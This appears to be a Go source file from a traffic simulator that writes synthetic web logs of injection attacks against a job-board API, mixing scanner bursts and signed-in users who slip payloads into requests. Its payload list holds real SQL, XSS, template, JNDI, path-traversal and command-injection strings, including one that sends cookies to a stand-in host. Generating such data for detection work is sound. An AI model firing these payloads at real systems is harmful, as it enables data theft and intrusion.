package main

import (
	"fmt"
	"math/rand/v2"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// payloads are what injection attackers put into query values: SQL,
// script, template and path traversal.
var payloads = []string{
	"' OR '1'='1", "1' AND SLEEP(5)-- -", "' UNION SELECT username,password_hash FROM users--", "1;DROP TABLE jobs--",
	"admin'--", "' AND 1=CONVERT(int,@@version)--", "1 AND (SELECT 1 FROM pg_sleep(5))", "') OR ('a'='a",
	"<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "javascript:alert(document.domain)",
	"<svg/onload=fetch('//x.example/'+document.cookie)>", "{{7*7}}", "${7*7}", "<%= 7*7 %>",
	"{{constructor.constructor('return process')().env}}", "${jndi:ldap://x.example/a}", "../../../../etc/passwd",
	"..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//windows/win.ini", "|cat /etc/passwd", "$(id)",
}

// rawQuery is how a hand-made request leaves a payload nearly raw.
var rawQuery = strings.NewReplacer(" ", "+", "&", "%26", "#", "%23")

// injected returns an ordinary API URL with a payload in one of its
// values, encoded as tools and browsers do.
func (s site) injected(r *rand.Rand) string {
	p := EncodeQuery(r, Pick(r, payloads), rawQuery, 0.35, 0.85)
	switch r.IntN(6) {
	case 0:
		return s.api + "/suggest?q=" + p
	case 1:
		return fmt.Sprintf("%s/jobs/search?q=%s&location=%s", s.api, queryValue(searchTerm(r)), p)
	case 2:
		return fmt.Sprintf("%s/jobs/%d?sort=%s", s.api, jobID(r), p)
	case 3:
		return s.api + "/files/cv/download?name=" + p
	case 4:
		return fmt.Sprintf("%s/jobs/search?q=%s&page=1", s.api, p)
	}
	return fmt.Sprintf("%s/companies/%s/jobs?department=%s", s.api, Pick(r, companies), p)
}

// injection is either a tool firing payloads at the API, or a signed-in
// person who mostly browses and slips a payload into 15 to 40% of the
// requests.
func (d *day) injection(r *rand.Rand) {
	if Chance(r, 0.5) {
		d.injectionTool(r)
		return
	}
	s := d.site
	v := d.attackVisit(r, "injection", browser(r))
	v.user = user(r, "u_")
	share := Uniform(r, 0.15, 0.4)
	v.page("/")
	for n := 40 + r.IntN(120); n > 0 && !v.over(); n-- {
		if Chance(r, share) {
			v.get(s.injected(r), Pick(r, []int{200, 200, 400, 400, 500}), int64(200+r.IntN(4000)), 60)
		} else {
			v.attack = false
			d.viewPosting(v, jobID(r), false)
			v.get(s.searchQuery(r, searchTerm(r), 1), 200, int64(6000+r.IntN(30000)), 140)
			v.attack = true
		}
		v.wait(2, 20)
	}
}

// injectionTool fires payloads one after another from a scanner.
func (d *day) injectionTool(r *rand.Rand) {
	v := d.attackVisit(r, "injection", disguise(r, 0.3, "sqlmap/1.8.3#stable (https://sqlmap.org)", "python-requests/2.31.0", "Wfuzz/3.1.0", "Mozilla/5.0 (Hydra Proxy)"))
	rate := LogUniform(r, 0.5, 6)
	for n := 100 + r.IntN(700); n > 0 && !v.over(); n-- {
		v.get(d.site.injected(r), Pick(r, []int{200, 400, 400, 500, 200, 404}), int64(200+r.IntN(4000)), 70)
		v.t += Sec(r.ExpFloat64() / rate)
	}
}
